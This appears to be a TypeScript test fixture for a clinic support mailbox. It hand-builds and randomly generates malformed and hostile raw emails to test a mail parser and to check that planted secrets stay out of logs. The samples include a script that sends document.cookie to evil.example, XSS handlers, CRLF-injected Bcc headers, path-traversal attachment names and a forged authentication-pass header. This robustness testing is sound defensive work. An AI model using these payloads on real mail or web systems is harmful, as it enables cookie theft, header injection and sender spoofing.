/**
 * Hostile and broken inbound mail: a hand-made corpus of the shapes that break mail software,
 * and a fast-check generator that mixes them at random. Raw bytes, built by hand on purpose (a
 * mail library would repair what we want broken).
 */
import fc from 'fast-check';

export interface HostileMail {
  name: string;
  raw: Buffer;
  /** strings planted in bodies, subjects, names, fields and attachment names: none may reach a log */
  secrets: string[];
}

const NORTH = 'clinic-north@support.example';
const CRLF = '\r\n';

let seq = 0;
const mid = () => `<hostile-${Date.now().toString(36)}-${++seq}@attacker.example>`;
const b64 = (s: string | Buffer) =>
  (Buffer.isBuffer(s) ? s : Buffer.from(s, 'utf8')).toString('base64').replace(/.{76}/g, `$&${CRLF}`);
const word = (s: string) => `=?UTF-8?B?${Buffer.from(s, 'utf8').toString('base64')}?=`;

interface Parts {
  from?: string | null;
  to?: string;
  subject?: string;
  headers?: string[];
  body?: string | Buffer;
  contentType?: string;
  encoding?: string;
  messageId?: string | null;
}

/** Header block + body, CRLF line ends; undefined From/Message-ID get defaults, null leaves them out. */
export function rawMail(p: Parts): Buffer {
  const lines: string[] = [];
  if (p.from !== null) lines.push(`From: ${p.from ?? 'Hostile Sender <hostile@clinic-north.example>'}`);
  lines.push(`To: ${p.to ?? NORTH}`);
  if (p.subject !== undefined) lines.push(`Subject: ${p.subject}`);
  if (p.messageId !== null) lines.push(`Message-ID: ${p.messageId ?? mid()}`);
  lines.push('Date: Tue, 03 Mar 2026 11:00:00 +0300', 'MIME-Version: 1.0');
  if (p.contentType) lines.push(`Content-Type: ${p.contentType}`);
  if (p.encoding) lines.push(`Content-Transfer-Encoding: ${p.encoding}`);
  lines.push(...(p.headers ?? []));
  const head = Buffer.from(lines.join(CRLF) + CRLF + CRLF, 'utf8');
  const body = p.body === undefined ? Buffer.alloc(0) : Buffer.isBuffer(p.body) ? p.body : Buffer.from(p.body, 'utf8');
  return Buffer.concat([head, body]);
}

function multipart(
  parts: Array<{ headers: string[]; body: string | Buffer }>,
  boundary = `b${++seq}`,
): { contentType: string; body: Buffer } {
  const chunks: Buffer[] = [];
  for (const part of parts) {
    chunks.push(
      Buffer.from(`--${boundary}${CRLF}${part.headers.join(CRLF)}${CRLF}${CRLF}`),
      Buffer.isBuffer(part.body) ? part.body : Buffer.from(part.body),
      Buffer.from(CRLF),
    );
  }
  chunks.push(Buffer.from(`--${boundary}--${CRLF}`));
  return { contentType: `multipart/mixed; boundary="${boundary}"`, body: Buffer.concat(chunks) };
}

const attachment = (filename: string, content: string | Buffer, type = 'application/octet-stream') => ({
  headers: [
    `Content-Type: ${type}; name="${filename}"`,
    `Content-Disposition: attachment; filename="${filename}"`,
    'Content-Transfer-Encoding: base64',
  ],
  body: b64(content),
});
const attachment2231 = (filename: string, content: string) => ({
  headers: [
    `Content-Type: application/octet-stream`,
    `Content-Disposition: attachment; filename*=UTF-8''${encodeURIComponent(filename)}`,
    'Content-Transfer-Encoding: base64',
  ],
  body: b64(content),
});
const textPart = (text: string) => ({
  headers: ['Content-Type: text/plain; charset=utf-8', 'Content-Transfer-Encoding: 8bit'],
  body: text,
});

function nested(depth: number, leaf: string): { contentType: string; body: Buffer } {
  let current: { contentType: string; body: Buffer } = {
    contentType: 'text/plain; charset=utf-8',
    body: Buffer.from(leaf),
  };
  for (let i = 0; i < depth; i++) {
    const m = multipart([{ headers: [`Content-Type: ${current.contentType}`], body: current.body }], `n${depth}-${i}`);
    current = { contentType: m.contentType, body: m.body };
  }
  return current;
}

/** The hand-made corpus: one entry per hostile shape named in the issue, and then some. */
export function handMadeCorpus(options: { bigAttachmentMb: number; manyAttachments: number }): HostileMail[] {
  const corpus: HostileMail[] = [];
  const add = (name: string, raw: Buffer, secrets: string[] = []) => corpus.push({ name, raw, secrets });
  const secret = (label: string) => `SECRET-${label}-${++seq}`;

  // truncated MIME
  {
    const s = secret('trunc');
    const m = multipart([textPart(`Номер амбулаторной карты: ${s}`), attachment('scan.pdf', Buffer.alloc(20_000, 7))]);
    const whole = rawMail({ subject: 'Обрезанное письмо', contentType: m.contentType, body: m.body });
    add('truncated in the middle of a base64 attachment', whole.subarray(0, Math.floor(whole.length * 0.6)), [s]);
    add('truncated in the middle of the headers', whole.subarray(0, 60));
    add('truncated right after the first boundary', whole.subarray(0, whole.indexOf('--b') + 12));
    add(
      'multipart without a closing boundary',
      rawMail({
        subject: 'Без конца',
        contentType: 'multipart/mixed; boundary="zzz"',
        body: `--zzz${CRLF}Content-Type: text/plain${CRLF}${CRLF}текст без конца`,
      }),
    );
    add(
      'multipart without a boundary parameter',
      rawMail({ subject: 'Без границы', contentType: 'multipart/mixed', body: 'просто текст' }),
    );
    add(
      'boundary never used',
      rawMail({ subject: 'Граница', contentType: 'multipart/alternative; boundary="nope"', body: 'текст' }),
    );
  }
  // charsets
  add(
    'charset that does not exist',
    rawMail({
      subject: 'Кодировка',
      contentType: 'text/plain; charset=x-no-such-charset',
      body: 'Номер амбулаторной карты: 42',
    }),
  );
  add(
    'koi8-r declared, UTF-8 sent',
    rawMail({ subject: 'koi8', contentType: 'text/plain; charset=koi8-r', body: 'Логин в системе: ivanova' }),
  );
  add(
    'no charset, windows-1251 bytes',
    rawMail({
      subject: 'cp1251',
      contentType: 'text/plain',
      encoding: '8bit',
      body: Buffer.from([0xcd, 0xee, 0xec, 0xe5, 0xf0, 0x20, 0x31, 0x32]),
    }),
  );
  add(
    'utf-16 with an odd byte',
    rawMail({
      subject: 'utf16',
      contentType: 'text/plain; charset=utf-16',
      body: Buffer.from([0xff, 0xfe, 0x41, 0x00, 0x42]),
    }),
  );
  add(
    'invalid UTF-8 declared as UTF-8',
    rawMail({
      subject: 'utf8',
      contentType: 'text/plain; charset=utf-8',
      encoding: '8bit',
      body: Buffer.from([0xc3, 0x28, 0xa0, 0xa1, 0xe2, 0x28, 0xa1, 0xf0, 0x90, 0x28, 0xbc]),
    }),
  );
  add(
    'unknown transfer encoding',
    rawMail({ subject: 'enc', contentType: 'text/plain; charset=utf-8', encoding: 'x-rot13', body: 'Ntbu' }),
  );
  add(
    'base64 with garbage characters',
    rawMail({
      subject: 'b64',
      contentType: 'text/plain; charset=utf-8',
      encoding: 'base64',
      body: '!!!***### not base64 ===\u0000',
    }),
  );
  add(
    'quoted-printable with broken escapes',
    rawMail({
      subject: 'qp',
      contentType: 'text/plain; charset=utf-8',
      encoding: 'quoted-printable',
      body: '=ZZ=4=\r\n=D0=9D=D0=BE=',
    }),
  );
  add('RFC 2047 word in an unknown charset', rawMail({ subject: '=?x-unknown?B?0J/RgNC40LLQtdGC?=', body: 'текст' }));
  add('RFC 2047 word with broken base64', rawMail({ subject: '=?UTF-8?B?####?= =?UTF-8?Q?=ZZ?=', body: 'текст' }));
  // 8-bit headers
  add(
    '8-bit windows-1251 subject',
    Buffer.concat([
      Buffer.from(`From: a@clinic-north.example${CRLF}To: ${NORTH}${CRLF}Subject: `),
      Buffer.from([0xce, 0xf8, 0xe8, 0xe1, 0xea, 0xe0]),
      Buffer.from(`${CRLF}${CRLF}body`),
    ]),
  );
  add(
    '8-bit UTF-8 From name',
    rawMail({ from: 'Анна Иванова <anna8@clinic-north.example>', subject: 'Имя', body: 'текст' }),
  );
  add(
    '8-bit garbage in a header name',
    Buffer.concat([
      rawMail({ subject: 'x', body: '' }).subarray(0, 20),
      Buffer.from([0xff, 0xfe, 0x3a, 0x20, 0x78, 0x0d, 0x0a]),
      Buffer.from(`${CRLF}body`),
    ]),
  );
  // huge headers
  add('900 KB subject', rawMail({ subject: 'Ж'.repeat(450_000), body: 'текст' }));
  add(
    '2 MB single header (over the parser limit)',
    rawMail({ subject: 'big', headers: [`X-Big: ${'a'.repeat(2_000_000)}`], body: 'текст' }),
  );
  add(
    '5000 Received headers',
    rawMail({
      subject: 'hops',
      headers: Array.from({ length: 5000 }, (_, i) => `Received: from hop${i}.example by hop${i + 1}.example`),
      body: 'текст',
    }),
  );
  add(
    'References with 20000 ids',
    rawMail({
      subject: 'Re: много',
      headers: [
        `References: ${Array.from({ length: 20_000 }, (_, i) => `<r${i}@x.example>`).join(' ')}`,
        `In-Reply-To: <r19999@x.example>`,
      ],
      body: 'текст',
    }),
  );
  add('100 KB Message-ID', rawMail({ subject: 'id', messageId: `<${'i'.repeat(100_000)}@x.example>`, body: 'текст' }));
  add(
    'a line of 5 MB without a line break',
    rawMail({
      subject: 'line',
      contentType: 'text/plain; charset=utf-8',
      body: 'Номер амбулаторной карты: '.repeat(200_000),
    }),
  );
  add(
    'header folded on whitespace-only lines',
    Buffer.from(
      `From: f@clinic-north.example${CRLF}To: ${NORTH}${CRLF}Subject: a${CRLF} ${CRLF}\t${CRLF} b${CRLF}${CRLF}body`,
    ),
  );
  add(
    'header lines without a colon',
    Buffer.from(
      `From: f@clinic-north.example${CRLF}To: ${NORTH}${CRLF}this is not a header${CRLF}Subject: x${CRLF}${CRLF}body`,
    ),
  );
  // structure
  {
    const parts = Array.from({ length: 1000 }, (_, i) =>
      i % 2 ? attachment(`part-${i}.txt`, `p${i}`) : textPart(`часть ${i}`),
    );
    const m = multipart(parts);
    add('1000 parts', rawMail({ subject: 'Тысяча частей', contentType: m.contentType, body: m.body }));
    const m2 = multipart(
      Array.from({ length: options.manyAttachments }, (_, i) => attachment(`скан-${i}.pdf`, `pdf ${i}`)),
    );
    add(
      `${options.manyAttachments} attachments`,
      rawMail({ subject: 'Много вложений', contentType: m2.contentType, body: m2.body }),
    );
  }
  for (const depth of [60, 600]) {
    const n = nested(depth, 'глубоко');
    add(
      `nested ${depth} levels`,
      rawMail({ subject: `Вложенность ${depth}`, contentType: n.contentType, body: n.body }),
    );
  }
  {
    let inner = rawMail({ subject: 'inner', body: 'x' });
    for (let i = 0; i < 50; i++) inner = rawMail({ subject: `fwd ${i}`, contentType: 'message/rfc822', body: inner });
    add('message/rfc822 inside itself 50 times', inner);
  }
  // empty
  add('empty body', rawMail({ subject: 'Пусто' }));
  add(
    'no body, no blank line',
    Buffer.from(`From: e@clinic-north.example${CRLF}To: ${NORTH}${CRLF}Subject: only headers`),
  );
  add('zero bytes', Buffer.alloc(0));
  add('one CRLF', Buffer.from(CRLF));
  add('no subject at all', rawMail({ body: 'без темы' }));
  add('random binary', Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 256)));
  add('NUL bytes in the body', rawMail({ subject: 'nul', body: 'a\u0000b\u0000c' }));
  add('bare CR line ends', Buffer.from(`From: cr@clinic-north.example\rTo: ${NORTH}\rSubject: cr\r\rbody`));
  add('bare LF line ends', Buffer.from(`From: lf@clinic-north.example\nTo: ${NORTH}\nSubject: lf\n\nbody`));
  // senders and addresses
  add('no From', rawMail({ from: null, subject: 'Кто я', body: 'текст' }));
  add('From is not an address', rawMail({ from: 'not an address', subject: 'x', body: 'y' }));
  add('From is <>', rawMail({ from: '<>', subject: 'x', body: 'y' }));
  add('From is a group', rawMail({ from: 'undisclosed-recipients:;', subject: 'x', body: 'y' }));
  add(
    'From with two addresses',
    rawMail({ from: 'a@clinic-north.example, b@clinic-north.example', subject: 'x', body: 'y' }),
  );
  add(
    'From with a quoted @ in the name',
    rawMail({ from: '"engineer1@team.example" <victim@clinic-north.example>', subject: 'x', body: 'y' }),
  );
  add(
    'invalid addresses in To and Cc',
    rawMail({
      to: `${NORTH}, @@@, a@b@c, "unclosed <x@y`,
      headers: ['Cc: ;;;, <>, <a@>, @b'],
      subject: 'x',
      body: 'y',
    }),
  );
  add(
    '100 recipients',
    rawMail({
      to: [NORTH, ...Array.from({ length: 99 }, (_, i) => `cc${i}@clinic-north.example`)].join(', '),
      subject: 'Всем',
      body: 'y',
    }),
  );
  // CRLF injection in subject and names
  {
    const s = secret('inj');
    add(
      'CRLF injection in an encoded subject',
      rawMail({ subject: word(`Привет\r\nBcc: victim@evil.example\r\nX-Injected: ${s}`), body: 'текст' }),
      [s],
    );
    add(
      'CRLF injection in an encoded From name',
      rawMail({
        from: `${word(`Анна\r\nBcc: victim@evil.example\r\n`)} <inj@clinic-north.example>`,
        subject: 'Имя',
        body: 'текст',
      }),
    );
    add(
      'encoded NUL and bidi controls in the subject',
      rawMail({ subject: word('a\u0000b\u202Egnp.exe\u0007\u001b[31m'), body: 'x' }),
    );
    add(
      'Cc with an encoded CRLF name',
      rawMail({
        headers: [`Cc: ${word('X\r\nBcc: victim@evil.example')} <colleague@clinic-north.example>`],
        subject: 'cc',
        body: 'x',
      }),
    );
  }
  // attachment names
  {
    const names = [
      '../../x',
      '..\\..\\windows\\system32\\x.dll',
      '/etc/passwd',
      'a\u0000b.txt',
      '\u202Efdp.exe',
      'ctrl\u0001\u0002\u001f.txt',
      'CON',
      '.',
      '..',
      '',
      ' ',
      'x'.repeat(5000) + '.pdf',
      'имя с пробелами и «кавычками».docx',
      '%2e%2e%2fx',
      'a/b/c/../../../d',
    ];
    const s = secret('att');
    const m = multipart([
      textPart(`смотрите вложения ${s}`),
      ...names.map((n, i) => (i % 2 ? attachment2231(n, `c${i}`) : attachment(n, `c${i}`))),
    ]);
    add(
      'attachments named ../../x, with control characters and the like',
      rawMail({ subject: 'Вложения', contentType: m.contentType, body: m.body }),
      [s],
    );
  }
  {
    const big = Buffer.alloc(options.bigAttachmentMb * 1024 * 1024);
    for (let i = 0; i < big.length; i += 4096) big[i] = i % 251;
    const m = multipart([textPart('Большой архив во вложении'), attachment('archive.zip', big, 'application/zip')]);
    add(
      `a ${options.bigAttachmentMb} MB attachment`,
      rawMail({ subject: 'Большой архив', contentType: m.contentType, body: m.body }),
    );
  }
  // HTML
  {
    const s = secret('html');
    const html = `<html><head><script>alert(document.cookie)</script><style>body{}</style></head><body onload="evil()"><p>Номер амбулаторной карты: ${s}</p><img src=x onerror="alert(1)"><a href="javascript:alert(2)">link</a><iframe src="https://evil.example"></iframe><script>fetch('https://evil.example/'+document.cookie)</script><svg onload=alert(3)></svg></body></html>`;
    add('HTML with scripts', rawMail({ subject: 'HTML', contentType: 'text/html; charset=utf-8', body: html }), [s]);
    add(
      'HTML: 200000 nested divs',
      rawMail({ subject: 'divs', contentType: 'text/html; charset=utf-8', body: '<div>'.repeat(200_000) + 'x' }),
    );
    add(
      'HTML: unterminated tags and comments',
      rawMail({
        subject: 'broken',
        contentType: 'text/html; charset=utf-8',
        body: '<p <b <!-- <script> <<<>>> &#xFFFFFFFF; &#0; &nosuch;' + '<a '.repeat(50_000),
      }),
    );
  }
  // body content aimed at the readers
  add(
    'body citing MG-1 ... MG-20000',
    rawMail({ subject: 'Ссылки', body: Array.from({ length: 20_000 }, (_, i) => `MG-${i + 1}`).join(' ') }),
  );
  add(
    'subject with 5000 ticket tags',
    rawMail({ subject: Array.from({ length: 5000 }, (_, i) => `[MG-${i}]`).join(''), body: 'x' }),
  );
  add(
    '10000 template field lines',
    rawMail({
      subject: 'Поля',
      contentType: 'text/plain; charset=utf-8',
      body: 'Номер амбулаторной карты: 1\n'.repeat(10_000),
    }),
  );
  add(
    '200000 quote markers',
    rawMail({ subject: 'Цитаты', contentType: 'text/plain; charset=utf-8', body: '>'.repeat(200_000) }),
  );
  add(
    '100000 lines "-- "',
    rawMail({ subject: 'Подписи', contentType: 'text/plain; charset=utf-8', body: '-- \n'.repeat(100_000) }),
  );
  add(
    'forged Authentication-Results claiming a pass',
    rawMail({
      from: 'engineer1@team.example',
      subject: 'Re: [MG-1] x',
      headers: ['Authentication-Results: amazonses.com; spf=pass; dkim=pass; dmarc=pass', 'X-SES-Spam-Verdict: PASS'],
      body: '#status closed',
    }),
  );
  add(
    'Date far in the future, Date garbage',
    rawMail({ subject: 'date', headers: ['Date: Fri, 31 Dec 9999 23:59:59 +9999', 'Date: yesterday'], body: 'x' }),
  );
  return corpus;
}

// ---------------------------------------------------------------------------------------------
// Generated: fast-check builds mails from hostile pieces; every run of the property is one mail.

const hostileText = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 200 }),
  fc.string({ maxLength: 200 }),
  fc.constantFrom(
    '',
    ' ',
    '\r\n',
    '\u0000',
    '\u202E',
    '=?UTF-8?B?AAAA?=',
    '=?',
    '"',
    '<',
    '>',
    ',',
    ';',
    '\\',
    '..',
    '../../x',
    '\r\nBcc: v@evil.example',
    'Приоритет: блокировка',
    'Номер амбулаторной карты: 1',
    '#status closed',
    '[MG-1]',
    'MG-99999999',
  ),
);
const senderAddress = fc.oneof(
  fc.constantFrom(
    'gen1@clinic-north.example',
    'gen2@clinic-north.example',
    'gen3@clinic-south.example',
    'engineer1@team.example',
    'clinic-north@support.example',
    'mailer-daemon@clinic-north.example',
    'stranger@evil.example',
  ),
  fc.emailAddress(),
  hostileText,
);
const charset = fc.constantFrom(
  'utf-8',
  'UTF-8',
  'windows-1251',
  'koi8-r',
  'iso-8859-5',
  'x-bogus',
  '',
  'utf-7',
  'us-ascii',
  'utf-16',
);
const transfer = fc.constantFrom('7bit', '8bit', 'base64', 'quoted-printable', 'binary', 'x-bogus', '');
const extraHeader = fc.tuple(
  fc.oneof(
    fc.constantFrom(
      'Auto-Submitted',
      'Precedence',
      'List-Id',
      'In-Reply-To',
      'References',
      'Content-Disposition',
      'Reply-To',
      'Cc',
      'X-Autoreply',
      'Return-Path',
    ),
    fc.stringMatching(/^[A-Za-z][A-Za-z0-9-]{0,20}$/),
  ),
  hostileText,
);

export interface GeneratedSpec {
  from: string;
  name: string;
  subject: string;
  body: string;
  charset: string;
  transfer: string;
  headers: Array<[string, string]>;
  attachments: Array<{ name: string; size: number }>;
  nesting: number;
  encodeSubject: boolean;
  cut: number | null;
  flips: number[];
}

export const generatedSpec: fc.Arbitrary<GeneratedSpec> = fc.record({
  from: senderAddress,
  name: hostileText,
  subject: hostileText,
  body: fc.oneof(hostileText, fc.string({ unit: 'grapheme', maxLength: 2000 })),
  charset,
  transfer,
  headers: fc.array(extraHeader, { maxLength: 6 }),
  attachments: fc.array(fc.record({ name: hostileText, size: fc.nat({ max: 5000 }) }), { maxLength: 4 }),
  nesting: fc.nat({ max: 6 }),
  encodeSubject: fc.boolean(),
  cut: fc.option(fc.nat({ max: 4000 }), { nil: null }),
  flips: fc.array(fc.nat({ max: 4000 }), { maxLength: 8 }),
});

/** Builds the raw bytes of a generated mail, with the secrets that must not reach a log. */
export function buildGenerated(spec: GeneratedSpec, index: number): HostileMail {
  const s = `SECRET-gen-${index}-${seq++}`;
  const body = `${spec.body}\nНомер амбулаторной карты: ${s}`;
  const encodedBody = spec.transfer === 'base64' ? b64(body) : body;
  let content: { contentType: string; body: Buffer } = {
    contentType: `text/plain; charset=${spec.charset}`,
    body: Buffer.from(encodedBody, 'utf8'),
  };
  if (spec.attachments.length) {
    const m = multipart([
      {
        headers: [`Content-Type: ${content.contentType}`, `Content-Transfer-Encoding: ${spec.transfer}`],
        body: content.body,
      },
      ...spec.attachments.map((a, i) => attachment(`${a.name}-${s}-${i}`, Buffer.alloc(a.size, i))),
    ]);
    content = m;
  }
  for (let i = 0; i < spec.nesting; i++)
    content = multipart([{ headers: [`Content-Type: ${content.contentType}`], body: content.body }]);
  const fromName = spec.name.replace(/[\r\n]/g, ' ');
  let raw = rawMail({
    from: `${word(`${fromName}`)} <${spec.from}>`,
    subject: spec.encodeSubject ? word(`${spec.subject} ${s}`) : `${spec.subject.replace(/\r?\n/g, ' ')} ${s}`,
    contentType: content.contentType,
    encoding: spec.attachments.length || spec.nesting ? undefined : spec.transfer,
    headers: spec.headers.map(([k, v]) => `${k}: ${v.replace(/\r?\n(?![ \t])/g, '\r\n ')}`),
    body: content.body,
  });
  if (spec.cut !== null && spec.cut < raw.length) raw = raw.subarray(0, spec.cut);
  if (spec.flips.length) {
    raw = Buffer.from(raw);
    for (const f of spec.flips) if (f < raw.length) raw[f] = raw[f]! ^ 0x80;
  }
  return { name: `generated #${index}`, raw, secrets: [s] };
}

export function generatedCorpus(count: number, seed = 20260303): HostileMail[] {
  return fc.sample(generatedSpec, { numRuns: count, seed }).map((spec, i) => buildGenerated(spec, i));
}
